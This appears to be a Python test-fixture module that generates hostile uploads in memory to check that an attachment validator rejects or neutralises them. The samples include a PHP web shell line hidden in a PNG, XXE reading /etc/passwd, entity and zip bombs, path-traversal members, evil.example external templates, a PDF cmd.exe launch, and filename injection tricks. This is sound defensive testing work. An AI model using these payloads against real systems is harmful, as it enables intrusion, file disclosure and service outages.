"""Files as people send them, and as nobody should: made here, so that no hostile file lies in the repository."""

import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from io import BytesIO
from typing import Any

from docx import Document
from openpyxl import Workbook
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from tests.clamd import EICAR

MB = 1 << 20


def pdf(words: str, *, size: int = 0) -> bytes:
    """One page; with `size` so many bytes, by a comment that nothing draws."""
    out = BytesIO()
    canvas = Canvas(out, invariant=True)
    canvas.drawString(72, 720, words)
    canvas.save()
    content = out.getvalue()
    filling = size - len(content) - len(b"%\n")
    return content if filling < 0 else behind_first_line(content, b"%" + b"x" * filling)


def behind_first_line(content: bytes, line: bytes) -> bytes:
    return content.replace(b"\n", b"\n" + line + b"\n", 1)


def office(kind: str) -> bytes:
    """A small document, workbook, or OpenDocument text."""
    out = BytesIO()
    if kind == "docx":
        document = Document()
        document.add_paragraph("Minutes of the meeting.")
        document.save(out)
    elif kind == "xlsx":
        book = Workbook()
        book.active.append(["Visitors", 40])  # type: ignore[union-attr]
        book.save(out)
    else:
        with zipfile.ZipFile(out, "w") as package:
            package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
            package.writestr("content.xml", "<office:document-content><text:p>Minutes.</text:p></office:document-content>")
    return out.getvalue()


def picture(kind: str, *, exif: Mapping[int, Any] | None = None) -> bytes:
    """40 dots by 30."""
    out, known = BytesIO(), Image.Exif()
    for tag, value in (exif or {}).items():
        known[tag] = value
    Image.new("RGB", (40, 30), "teal").save(out, kind, exif=known)
    return out.getvalue()


def with_member(kind: str, name: str, content: bytes, *, mode: int = 0) -> bytes:
    """An office file with one more member, or another one in the place of its own."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(office(kind))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.infolist():
            if one.filename != name:
                new.writestr(one, old.read(one))
        member = zipfile.ZipInfo(name)
        member.filename = name  # as it is: the constructor cuts at a NUL
        member.compress_type, member.external_attr = zipfile.ZIP_DEFLATED, mode << 16
        new.writestr(member, content)
    return out.getvalue()


def with_words(kind: str, name: str, old: str, new: str) -> bytes:
    """An office file with other words in one of its members."""
    with zipfile.ZipFile(BytesIO(office(kind))) as package:
        text = package.read(name).decode()
    assert old in text, f"{name} holds no {old!r}"
    return with_member(kind, name, text.replace(old, new, 1).encode())


def related(kind: str, owner: str, relation: str, target: str) -> bytes:
    """An office file one part of which refers to something elsewhere."""
    words = f'<Relationship Id="rId99" Type="http://x/relationships/{relation}" TargetMode="External" Target="{target}"/>'
    name = owner.replace("/", "/_rels/", 1) + ".rels"
    return with_member(kind, name, f"<Relationships>{words}</Relationships>".encode())


def declaring(kind: str, size: int, *, real: int) -> bytes:
    """An office file with a member of `real` zeros that says it has `size` bytes."""
    content = with_member(kind, "word/media/zeros.dat", b"\0" * real)
    old, new = struct.pack("<I", real), struct.pack("<I", size)
    return content.replace(old, new)


def crowded(kind: str, count: int) -> bytes:
    out = BytesIO(office(kind))
    with zipfile.ZipFile(out, "a") as package:
        for number in range(count):
            package.writestr(f"word/media/{number}.dat", b"")
    return out.getvalue()


def packed_objects(content: bytes, *, size: int = 0) -> bytes:
    """A PDF with an object stream, as newer ones have them; with `size` it unpacks to so many zeros."""
    packer = zlib.compressobj()
    packed = packer.compress(content) + b"".join(packer.compress(b"\0" * MB) for _ in range(size // MB)) + packer.flush()
    stream = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\n" + packed + b"\nendstream"
    return behind_first_line(pdf("x"), stream)


def flood(side: int) -> bytes:
    """A PNG whose head says that it is this high and wide."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk + picture("png")[33:]


def zipped(name: str, content: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w>&b;</w>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'
SCRIPT = b"<script>alert('heron')</script>"
LINK = stat.S_IFLNK | 0o777
_ODT = "content.xml"


@dataclass(frozen=True)
class Hostile:
    """`outcome`: why it is refused (a key of readers.attachments.PROBLEMS), or "inert": it is taken, and `gone` is not in it any
    more; "scanned": it is taken, and the virus scanner is asked. `kept` is the name it is kept under.
    """

    way: str
    name: str
    make: Callable[[], bytes]
    outcome: str
    gone: bytes = b""
    kept: str = ""

    @property
    def id(self) -> str:
        return f"{self.way}: {self.name[:20].encode('unicode_escape').decode()} {self.outcome}"


HOSTILE = (
    Hostile("polyglot", "law.pdf", lambda: pdf("x") + zipped("evil.js", b"1"), "mixed"),
    Hostile("polyglot", "page.pdf", lambda: b"<html>" + SCRIPT + pdf("x"), "mismatch"),
    Hostile("polyglot", "photo.jpg", lambda: picture("jpeg") + zipped("evil.class", SCRIPT), "inert", b"PK\x05\x06"),
    Hostile("polyglot", "sign.gif", lambda: picture("gif")[:-1] + b"!\xfe\x1f" + SCRIPT + b"\0;", "inert", b"script"),
    Hostile("polyglot", "map.png", lambda: picture("png") + b"<?php system($_GET[0]); ?>", "inert", b"php"),
    Hostile("polyglot", "minutes.docx", lambda: zipped("a", b"1") + office("docx"), "mixed"),
    Hostile("polyglot", "minutes.docx", lambda: office("docx") + SCRIPT, "mixed"),
    Hostile("zip bomb", "minutes.docx", partial(declaring, "docx", 0xF0000000, real=1_234_567), "bomb"),
    Hostile("zip bomb", "minutes.docx", partial(declaring, "docx", 10, real=51_234_567), "broken"),
    Hostile("zip bomb", "minutes.docx", partial(crowded, "docx", 4_100), "bomb"),
    Hostile("zip bomb", "law.pdf", lambda: packed_objects(b"", size=101 * MB), "bomb"),
    Hostile("zip bomb", "map.png", partial(flood, 50_000), "huge"),
    Hostile("nested archive", "minutes.docx", lambda: with_member("docx", "word/media/a.zip", zipped("a", b"1")), "nested"),
    Hostile("nested archive", "table.xlsx", lambda: with_member("xlsx", "xl/a.bin", b"Rar!\x1a\7\1\0"), "nested"),
    Hostile("nested archive", "minutes.docx", lambda: with_member(
        "docx", "word/embeddings/a.docx", with_member("docx", "word/embeddings/b.docx", office("docx"))), "nested"),
    Hostile("nested archive", "law.pdf", lambda: behind_first_line(pdf("x"), b"<</Type /Filespec /EmbeddedFile 9 0 R>>"), "nested"),
    Hostile("macro", "minutes.docx", lambda: with_member("docx", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macro"),
    Hostile("macro", "minutes.docx", lambda: with_words(
        "docx", "[Content_Types].xml", "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main"), "macro"),
    Hostile("macro", "minutes.odt", lambda: with_member("odt", "Basic/Standard/Module1.xml", b"<x/>"), "macro"),
    Hostile("macro", "law.pdf", lambda: behind_first_line(pdf("x"), b"<</S /JavaScript /JS (app.alert(1))>>"), "macro"),
    Hostile("macro", "law.pdf", lambda: behind_first_line(pdf("x"), b"<</S /J#61vaScript /JS (app.alert(1))>>"), "macro"),
    Hostile("macro", "law.pdf", lambda: packed_objects(b"1 0 <</S /Launch /F (cmd.exe)>>"), "macro"),
    Hostile("external template", "minutes.docx", lambda: related(
        "docx", "word/settings.xml", "attachedTemplate", "http://evil.example/a.dotm"), "external"),
    Hostile("external template", "table.xlsx", lambda: related(
        "xlsx", "xl/workbook.xml", "externalLinkPath", r"\\evil.example\share\a.xlsx"), "external"),
    Hostile("external template", "minutes.odt", lambda: with_member(
        "odt", _ODT, b'<x><text:section-source xlink:href="http://evil.example/a.odt"/></x>'), "external"),
    Hostile("entity bomb", "minutes.docx", lambda: with_member("docx", "word/document.xml", LAUGHS), "entities"),
    Hostile("entity bomb", "table.xlsx", lambda: with_member("xlsx", "xl/sharedStrings.xml", OUTSIDE), "entities"),
    Hostile("entity bomb", "minutes.odt", lambda: with_member("odt", _ODT, LAUGHS.decode().encode("utf-16")), "entities"),
    Hostile("entity bomb", "table.xlsx", lambda: with_member("xlsx", "xl/theme/a.xml", b" " * (MB - 5) + LAUGHS), "entities"),
    Hostile("renamed type", "law.pdf", lambda: b"MZ" + b"\0" * 1_000, "mismatch"),
    Hostile("renamed type", "table.xlsx", partial(office, "docx"), "mismatch"),
    Hostile("renamed type", "minutes.docx", lambda: zipped("a.txt", b"1"), "mismatch"),
    Hostile("renamed type", "map.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "mismatch"),
    Hostile("renamed type", "law.pdf.exe", lambda: pdf("x"), "unknown"),
    Hostile("renamed type", "page.html", lambda: b"<!doctype html>" + SCRIPT, "unknown"),
    Hostile("renamed type", "minutes.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old_office"),
    Hostile("path or link", "minutes.docx", lambda: with_member("docx", "../../../etc/cron.d/evil", b"1"), "paths"),
    Hostile("path or link", "minutes.docx", lambda: with_member("docx", "/etc/passwd", b"1"), "paths"),
    Hostile("path or link", "table.xlsx", lambda: with_member("xlsx", "xl\\..\\..\\evil.dll", b"1"), "paths"),
    Hostile("path or link", "minutes.docx", lambda: with_member("docx", "word/media/a.png", b"/etc/shadow", mode=LINK), "paths"),
    Hostile("empty", "law.pdf", bytes, "empty"),
    Hostile("empty", "minutes.docx", bytes, "empty"),
    Hostile("empty", "map.png", bytes, "empty"),
    Hostile("truncated", "law.pdf", lambda: pdf("x")[:-200], "broken"),
    Hostile("truncated", "minutes.docx", lambda: office("docx")[:9_000], "broken"),
    Hostile("truncated", "photo.jpg", lambda: picture("jpeg")[:300], "broken"),
    Hostile("truncated", "map.png", lambda: picture("png")[:60], "broken"),
    Hostile("name", "photo\u202egnp.exe", lambda: picture("png"), "unknown"),
    Hostile("name", "law\u202efdp.pdf", lambda: pdf("x"), "inert", kept="lawfdp.pdf"),
    Hostile("name", "law.exe\0.pdf", lambda: pdf("x"), "inert", kept="law.exe.pdf"),
    Hostile("name", "../../etc/\r\nSet-Cookie: a=b.pdf", lambda: pdf("x"), "inert", kept="Set-Cookie: a=b.pdf"),
    Hostile("name", "é" * 300 + ".pdf", lambda: pdf("x"), "inert", kept="é" * 116 + ".pdf"),
    Hostile("test virus", "eicar.com", lambda: EICAR, "unknown"),
    Hostile("test virus", "eicar.pdf", lambda: EICAR, "mismatch"),
    Hostile("test virus", "law.pdf", lambda: behind_first_line(pdf("x"), b"%" + EICAR), "scanned"),
    Hostile("test virus", "photo.jpg", lambda: picture("jpeg") + EICAR, "inert", EICAR),
)  # fmt: skip
